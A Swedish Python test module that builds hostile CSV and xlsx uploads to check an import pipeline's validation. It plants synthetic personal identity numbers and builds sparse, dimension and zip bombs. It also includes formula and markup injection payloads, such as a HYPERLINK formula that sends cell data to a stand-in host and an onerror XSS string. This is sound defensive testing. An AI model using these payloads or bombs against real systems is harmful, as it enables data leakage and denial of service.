"""En korpus av fientliga filer över alla datamängder och båda formaten (CSV och xlsx), byggd av ett skript.

Varje fil är en `Fall`: namn, innehåll, datamängd, parametrar (år, plattform) och förväntan: "godtas" eller
"vagras", och för en vägran gärna raden och kolumnen som felet ska peka ut. Körningen (`kor`) läser in varje
fil i tur och ordning mot samma databas, som sidan Data och kommandoraden gör, och samlar vad som hände:
vägrad med vilka fynd, godtagen, eller något annat (en krasch). Kontrollsumman över alla tabeller tas före och
efter varje vägran. Testet (tests/test_korpus.py) kör det i en egen process, så att en fil som river processen
syns som ett fel i testet i stället för att ta ner testsviten.

Personnumren räknas fram här (Luhn), oberoende av produktens detektor.
"""

from __future__ import annotations

import io
import json
import sys
from dataclasses import asdict, dataclass, field
from pathlib import Path

from tests.fientliga_filer import _kolumnbokstav, _rad, xlsx_for_hand  # den mindre korpusens byggare

EXEMPEL = Path(__file__).resolve().parent.parent / "datasets" / "examples"

# Datamängd -> (exempelfil, parametrar som behövs när filen inte själv anger år/plattform).
DATAMANGDER = {
    "utfall_tabell": ("utfall_tabell.csv", {"period": 2021, "plattform": "vannas"}),
    "deltagare": ("deltagare.csv", {}),
    "enkat_andelar": ("enkat_andelar.csv", {}),
    "enkat_svar": ("enkat_svar.csv", {"period": 2021}),
    "enkat_svarsfrekvens": ("enkat_svarsfrekvens.csv", {}),
    "aktualiseringar": ("aktualiseringar.csv", {}),
    "budget": ("budget.csv", {}),
    "indikator_rapporterat": ("indikator_rapporterat.csv", {}),
}


# ---------------------------------------------------------------- personnummer (oberoende av produkten)


def luhn_siffra(nio: str) -> str:
    summa = 0
    for i, t in enumerate(nio):
        p = int(t) * (2 if i % 2 == 0 else 1)
        summa += p - 9 if p > 9 else p
    return str((10 - summa % 10) % 10)


def personnummer(datum: str, lopnr: str) -> str:
    """Tio siffror med rätt kontrollsiffra: datum ÅÅMMDD (dag + 60 för samordningsnummer), tre siffror löpnummer."""
    return datum + lopnr + luhn_siffra(datum + lopnr)


HELBREDD = str.maketrans("0123456789", "０１２３４５６７８９")


def former(tio: str, sekel: str = "19") -> dict[str, str]:
    """Numret i de former som finns i verkliga filer."""
    return {
        "bindestreck": f"{tio[:6]}-{tio[6:]}",
        "utan_avgransare": tio,
        "tolv_siffror": f"{sekel}{tio}",
        "tolv_med_streck": f"{sekel}{tio[:6]}-{tio[6:]}",
        "plus": f"{tio[:6]}+{tio[6:]}",
        "mellanslag": f"{tio[:6]} {tio[6:]}",
        "tankstreck": f"{tio[:6]}\u2013{tio[6:]}",
        "em_streck": f"{tio[:6]}\u2014{tio[6:]}",
        "helbredd": f"{tio[:6]}-{tio[6:]}".translate(HELBREDD),
        "efter_ogiltig": f"000000-0000 {tio[:6]}-{tio[6:]}",
        "angransande": f"{tio[:6]}-{tio[6:]}{tio}",
        "i_text": f"Deltagaren ({tio[:6]}-{tio[6:]}) slutade",
    }


# Numren korpusen planterar; testet letar efter deras tio siffror i allt som produkten lagrat och skrivit.
NUMMER = [personnummer(d, l) for d, l in [
    ("121212", "121"), ("811218", "987"), ("640823", "323"), ("750505", "111"), ("121272", "121"),  # 72: samordningsnr
    ("900101", "239"), ("020304", "555"), ("451120", "003"), ("880229", "112"), ("010101", "010"),
    ("770707", "707"), ("550615", "246"), ("930330", "118"), ("660909", "909"), ("841231", "345"),
    ("711111", "111"), ("980808", "080"), ("530102", "300"), ("600606", "060"), ("020229", "221"),
]]


# ---------------------------------------------------------------- fall


@dataclass
class Fall:
    namn: str  # filnamnet som laddas upp
    innehall: bytes
    datamangd: str
    forvantan: str  # "godtas" eller "vagras"
    vad: str  # vad filen prövar, för felutskriften
    parametrar: dict = field(default_factory=dict)
    rad: int | None = None  # raden som felet ska peka ut (rubrikraden är rad 1)
    kolumn: str | None = None  # en del av kolumnens namn som felet ska nämna
    personnummer: str | None = None  # tio siffror som inte får finnas någonstans efteråt


def _rader(datamangd: str) -> list[list[str]]:
    text = (EXEMPEL / DATAMANGDER[datamangd][0]).read_text(encoding="utf-8-sig")
    return [r.split(";") for r in text.splitlines() if r]


def _csv(rader: list[list[str]], sep: str = ";", kodning: str = "utf-8") -> bytes:
    def falt(v: str) -> str:
        return f'"{v.replace(chr(34), chr(34) * 2)}"' if any(t in v for t in (sep, '"', "\n")) else v
    return ("\n".join(sep.join(falt(v) for v in r) for r in rader) + "\n").encode(kodning)


def _xlsx(blad: dict[str, list[list]]) -> bytes:
    import xlsxwriter

    buffert = io.BytesIO()
    with xlsxwriter.Workbook(buffert, {"strings_to_formulas": False, "strings_to_urls": False,
                                       "strings_to_numbers": False}) as bok:
        for namn, rader in blad.items():
            ark = bok.add_worksheet(namn)
            for i, rad in enumerate(rader):
                for j, v in enumerate(rad):
                    ark.write_string(i, j, v) if isinstance(v, str) else ark.write(i, j, v)
    return buffert.getvalue()


def _xlsx_for_hand(bladxml: str, **kw) -> bytes:
    """En minimal xlsx byggd för hand (den mindre korpusens byggare), så att dimension, cellreferenser och formler
    styrs exakt."""
    return xlsx_for_hand(bladxml.encode("utf-8"), bladnamn="Blad1", **kw)


def _inline_rader(rader: list[list[str]], borjan: int = 1) -> str:
    return "".join(_rad(i + borjan, rad) for i, rad in enumerate(rader))


def _med(rader: list[list[str]], rad: int, kolumn: int, varde: str) -> list[list[str]]:
    ny = [list(r) for r in rader]
    ny[rad][kolumn] = varde
    return ny


def _kolumn(rader: list[list[str]], *namn: str) -> int:
    for i, rubrik in enumerate(rader[0]):
        if rubrik in namn:
            return i
    raise KeyError(namn)


def bygg() -> list[Fall]:
    """Hela korpusen. Ordningen spelar roll: godtagna filer ändrar databasen som senare filer prövas mot."""
    fall: list[Fall] = []
    nummer = iter(NUMMER * 20)

    def lagg(namn, innehall, dm, forvantan, vad, **kw):
        kw.setdefault("parametrar", dict(DATAMANGDER[dm][1]))
        fall.append(Fall(namn, innehall, dm, forvantan, vad, **kw))

    # Textkolumner där ett planterat värde hamnar i en cell som annars skulle godtas (fritext eller id).
    textkolumn = {"utfall_tabell": (1, 0), "deltagare": (1, 0), "enkat_andelar": (1, 3), "enkat_svar": (1, 0),
                  "enkat_svarsfrekvens": (1, 2), "aktualiseringar": (1, 1), "budget": (1, 2),
                  "indikator_rapporterat": (1, 6)}
    pnr_former = list(former("0000000000"))

    for dm in DATAMANGDER:
        rader = _rader(dm)
        # 1. Giltiga filer godtas i båda formaten (och med andra kodningar och avgränsare).
        lagg(f"{dm}.csv", _csv(rader), dm, "godtas", "giltig CSV")
        lagg(f"{dm}.xlsx", _xlsx({"Blad1": rader}), dm, "godtas", "giltig xlsx")
        lagg(f"{dm}_cp1252.csv", _csv(rader, kodning="cp1252"), dm, "godtas", "Windows-1252")
        lagg(f"{dm}_bom.csv", b"\xef\xbb\xbf" + _csv(rader), dm, "godtas", "UTF-8 med BOM")
        lagg(f"{dm}_tabb.csv", _csv(rader, sep="\t"), dm, "godtas", "tabbseparerad")

        # 2. Personnummer i en cell, i olika former; i rubriken; i bladnamnet; i filnamnet.
        r, k = textkolumn[dm]
        for i, form in enumerate(pnr_former[:4] if dm != "budget" else pnr_former):
            tio = next(nummer)
            varde = former(tio)[form]
            lagg(f"{dm}_pnr_{form}.csv", _csv(_med(rader, r, k, varde)), dm, "vagras",
                 f"personnummer ({form}) i en cell", rad=r + 1, personnummer=tio)
        tio = next(nummer)
        lagg(f"{dm}_pnr_cell.xlsx", _xlsx({"Blad1": _med(rader, r, k, former(tio)["tolv_med_streck"])}), dm, "vagras",
             "personnummer i en xlsx-cell", rad=r + 1, personnummer=tio)
        tio = next(nummer)
        lagg(f"{dm}_pnr_rubrik.csv", _csv(_med(rader, 0, len(rader[0]) - 1, f"{rader[0][-1]} {former(tio)['bindestreck']}")),
             dm, "vagras", "personnummer i en rubrik", rad=1, personnummer=tio)
        tio = next(nummer)
        lagg(f"{dm}_pnr_blad.xlsx", _xlsx({former(tio)["bindestreck"]: rader}), dm, "vagras",
             "personnummer i ett bladnamn", personnummer=tio)
        tio = next(nummer)
        lagg(f"{dm}_{former(tio)['bindestreck']}.csv", _csv(rader), dm, "godtas",
             "personnummer i filnamnet (godtas, men numret lagras aldrig)", personnummer=tio)

        # 3. Trasig form.
        lagg(f"{dm}_tom.csv", b"", dm, "vagras", "tom fil")
        lagg(f"{dm}_bara_rubrik.csv", _csv(rader[:1]), dm, "vagras", "bara rubrikraden")
        lagg(f"{dm}_utf16.csv", _csv(rader).decode().encode("utf-16"), dm, "vagras", "UTF-16")
        ojamn = [list(x) for x in rader]
        ojamn[2] = ojamn[2] + ["extra", "falt"]
        lagg(f"{dm}_ojamn.csv", _csv(ojamn), dm, "vagras", "en rad med för många fält", rad=3)
        linjer = _csv(rader).split(b"\n")
        linjer[2] = b'"' + linjer[2]
        lagg(f"{dm}_ostangt_citat.csv", b"\n".join(linjer), dm, "vagras", "citattecken som inte stängs", rad=3)
        lagg(f"{dm}_nul.csv", _csv(_med(rader, r, k, "VN\x00-01")), dm, "vagras", "NUL-tecken i en cell", rad=r + 1)
        # Början i UTF-8 (med ä), sista raden i Windows-1252 (med ä): får inte lagras som "Ã¤".
        utf8 = _csv(_med(rader, r, k, rader[r][k] + "ä"))
        cp = _csv([_med(rader, r, k, rader[r][k] + "å")[r]], kodning="cp1252")
        lagg(f"{dm}_blandad_kodning.csv", utf8 + cp, dm, "vagras", "UTF-8 och Windows-1252 i samma fil",
             rad=len(rader) + 1)
        dubbel = [r0 + [r0[-1]] for r0 in [rader[0]]] + [x + [x[-1]] for x in rader[1:]]
        lagg(f"{dm}_dubbel_rubrik.csv", _csv(dubbel), dm, "vagras", "samma rubrik två gånger", rad=1,
             kolumn=rader[0][-1])
        lagg(f"{dm}_tomma_avgransare.csv", _csv([x + [""] * 1000 for x in rader]), dm, "godtas",
             "1 000 tomma avgränsare i slutet av varje rad")
        lagg(f"{dm}_binar.csv", bytes(range(256)) * 40, dm, "vagras", "binärfil")
        lagg(f"{dm}_xls.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, dm, "vagras", "gammalt xls-format")
        lagg(f"{dm}_avkortad.xlsx", _xlsx({"Blad1": rader})[:700], dm, "vagras", "avkortad xlsx")

        # 4. Xlsx-bomber: gles (en cell i XFD1048576), deklarerad jättedimension, tät, zipbomb, formel utan värde.
        gles = _inline_rader(rader) + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        lagg(f"{dm}_gles_bomb.xlsx", _xlsx_for_hand(gles), dm, "vagras",
             "gles xlsx-bomb: en cell i XFD1048576")
        lagg(f"{dm}_dimension_bomb.xlsx",
             _xlsx_for_hand(_inline_rader(rader), dimension="A1:XFD1048576"), dm,
             "vagras", "deklarerad dimension A1:XFD1048576")
        delad = "A" * 1000
        delade = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                  '2006/main">' + f"<si><t>{delad}</t></si>" * 300_000 + "</sst>").encode()
        # Packad med nivå 1 (snabbast): kvoten blir ändå omkring 170 gånger, över gränsen på 100.
        zipbomb = _xlsx_for_hand(_inline_rader(rader), extra={"xl/sharedStrings.xml": delade}, niva=1)
        lagg(f"{dm}_zipbomb.xlsx", zipbomb, dm, "vagras", "zipbomb: 300 MB delade strängar")
        formel = [list(x) for x in rader]
        xml = _inline_rader(formel).replace(f'<c r="{_kolumnbokstav(k)}{r + 1}" t="inlineStr"><is><t>{formel[r][k]}</t></is></c>',
                                            f'<c r="{_kolumnbokstav(k)}{r + 1}"><f>CONCAT("a","b")</f></c>')
        lagg(f"{dm}_formel_utan_varde.xlsx", _xlsx_for_hand(xml), dm, "vagras",
             "formel utan cachat värde", rad=r + 1)

    # 5. Täta filer och långa rader (en gång: de är stora).
    rader = _rader("deltagare")
    tat = [rader[0]] + [[f"T-{i}", "Vännäs", "Vännäs", "Kvinna", "2020-01-01", "", ""] + ["x" * 20] * 40
                        for i in range(40_000)]
    tat[0] = tat[0] + [f"Extra{i}" for i in range(40)]
    lagg("deltagare_tat.csv", _csv(tat), "deltagare", "vagras", "40 000 rader med 40 okända kolumner", rad=1)
    lagg("deltagare_lang_rad.csv", _csv([rader[0], [*rader[1][:-1], "x" * 20_000_000]]), "deltagare", "vagras",
         "en cell på 20 MB", rad=2)
    lagg("deltagare_manga_kolumner.csv", _csv([rader[0] + [f"K{i}" for i in range(30_000)],
                                                rader[1] + [""] * 30_000]), "deltagare", "vagras",
         "30 000 kolumner")

    # 6. Innehåll som ska vägras med rad och kolumn.
    def fel(dm: str, namn: str, rad: int, kolumner: tuple[str, ...], varde: str, vad: str):
        rader = _rader(dm)
        lagg(f"{dm}_{namn}.csv", _csv(_med(rader, rad, _kolumn(rader, *kolumner), varde)), dm, "vagras", vad,
             rad=rad + 1, kolumn=kolumner[0])

    fel("deltagare", "datum_2099", 1, ("Startdatum",), "2099-01-01", "startdatum 2099")
    fel("deltagare", "datum_1850", 1, ("Startdatum",), "1850-01-01", "startdatum 1850")
    fel("deltagare", "datum_skrap", 2, ("Startdatum",), "2020-01-13garbage", "datum med skräp efter")
    fel("deltagare", "slut_fore_start", 1, ("Slutdatum",), "2019-01-01", "slutdatum före startdatum")
    fel("deltagare", "okant_kon", 1, ("Kön",), "Kvinnaa", "okänt kön")
    fel("deltagare", "okand_plattform", 1, ("Plattform",), "=HYPERLINK(\"http://x/\",\"klick\")",
        "formel som plattform")
    fel("aktualiseringar", "negativt", 1, ("Antal",), "-3", "negativt antal")
    fel("aktualiseringar", "decimal", 1, ("Antal",), "2,5", "decimaltal som antal")
    fel("aktualiseringar", "jattetal", 1, ("Antal",), "1" + "0" * 30, "jättetal som antal")
    fel("aktualiseringar", "nan", 1, ("Antal",), "NaN", "NaN som antal")
    fel("aktualiseringar", "ar_1850", 1, ("År",), "1850", "år 1850")
    fel("aktualiseringar", "ar_3000", 1, ("År",), "3000", "år 3000")
    fel("aktualiseringar", "okand_part", 1, ("Part",), "@SUM(A1)", "formel som part")
    fel("budget", "ar_minus", 1, ("År",), "-5", "år -5")
    fel("budget", "belopp_text", 1, ("Utfall",), "elva", "text som belopp")
    fel("enkat_andelar", "positiva_over_svar", 1, ("Antal positiva",), "99", "fler positiva än svar")
    # Felet står på helhetens rad (Alla, rad 2) och nämner delarnas rader.
    rader = _rader("enkat_andelar")
    lagg("enkat_andelar_delar_over_helhet.csv", _csv(_med(rader, 2, _kolumn(rader, "Antal svar"), "18")), "enkat_andelar",
         "vagras", "kvinnor fler än alla svarande", rad=2, kolumn="Antal svar")
    fel("enkat_svarsfrekvens", "svar_over_inbjudna", 1, ("Antal svar",), "60", "fler svar än inbjudna")
    fel("indikator_rapporterat", "okand_indikator", 1, ("Indikator",), "finns_inte", "okänd indikator")
    fel("indikator_rapporterat", "okand_omfattning", 1, ("Plattform",), "ingenstans", "okänd plattform")
    fel("indikator_rapporterat", "okant_kon", 1, ("Kön",), "X", "okänt kön i indikator")
    fel("indikator_rapporterat", "procent_over_100", 1, ("Procent",), "250", "procent över 100")
    for dm, rad in (("aktualiseringar", 1), ("enkat_andelar", 1), ("enkat_svarsfrekvens", 1), ("budget", 1),
                    ("indikator_rapporterat", 1), ("deltagare", 1)):
        rader = _rader(dm)
        lagg(f"{dm}_dubblett.csv", _csv(rader + [rader[rad]]), dm, "vagras", "samma nyckel två gånger",
             rad=len(rader) + 1)

    # 7. Injektion och markdown i fritext: godtas som text (exporterna skrivs som text, sidorna visar text).
    rader = _rader("budget")
    post = _kolumn(rader, "Post")
    for i, nyttolast in enumerate(['=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Klicka här")', "+1+1", "-2+3",
                                   "@SUM(A1:A9)", "\t=1+1", "![x](http://127.0.0.1:9/p.png)",
                                   "<img src=x onerror=alert(1)>", "[klick](http://127.0.0.1:9/)"]):
        ny = [rader[0], [*rader[1]]]
        ny[1][post] = nyttolast
        ny[1][0] = str(2010 + i)  # ett eget år per fil, så att de inte ersätter varandra
        lagg(f"budget_injektion_{i}.csv", _csv(ny), "budget", "godtas", f"fritext {nyttolast!r} som text")
    # Semikolonfil med citerad formel: ska läsas som semikolon, inte som komma.
    ny = [rader[0], [*rader[1]]]
    ny[1][post] = '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Klicka här")'
    ny[1][0] = "2009"
    lagg("budget_citerad_formel.csv", _csv(ny).replace(b"\n", b"\n", 1), "budget", "godtas",
         "semikolonfil med citerad formel som innehåller komma")
    return fall


# ---------------------------------------------------------------- körning


def kor(databasfil: str, utfil: str) -> None:
    """Läser in varje fil i korpusen mot databasen och skriver resultatet som JSON (en rad per fall, skrivs
    efter varje fall så att en krasch visar vilken fil som rev processen)."""
    from uppfoljning import databas, uppladdning
    from uppfoljning.fel import InlasningsFel

    # En skrivning genom lagringen (databasfil eller PostgreSQL) för hela korpusen, bekräftad när allt lästs in.
    with databas.skrivning(databasfil, "korpusen") as con, open(utfil, "w", encoding="utf-8") as ut:
        for f in bygg():
            print(f"korpus: {f.namn[:80]}", file=sys.stderr, flush=True)
            fore = uppladdning.kontrollsumma(con)
            res = {"namn": f.namn, "vad": f.vad}
            try:
                forb = uppladdning.forbered(con, f.innehall, f.namn, f.datamangd, **f.parametrar)
                uppladdning.spara(con, forb, "korpus", ersatt=True)
                res["utfall"] = "godtogs"
                res["varningar"] = list(forb.varningar)
            except InlasningsFel as e:
                res["utfall"] = "vagrades"
                res["fynd"] = [{**{k: v for k, v in asdict(x).items()}, "text": str(x)} for x in e.fynd]
            except Exception as e:  # noqa: BLE001 - allt annat är en krasch som testet ska visa
                res["utfall"] = "kraschade"
                res["fel"] = f"{type(e).__name__}: {str(e)[:500]}"
            res["oforandrad"] = uppladdning.kontrollsumma(con) == fore
            ut.write(json.dumps(res, ensure_ascii=False) + "\n")
            ut.flush()


if __name__ == "__main__":
    kor(sys.argv[1], sys.argv[2])
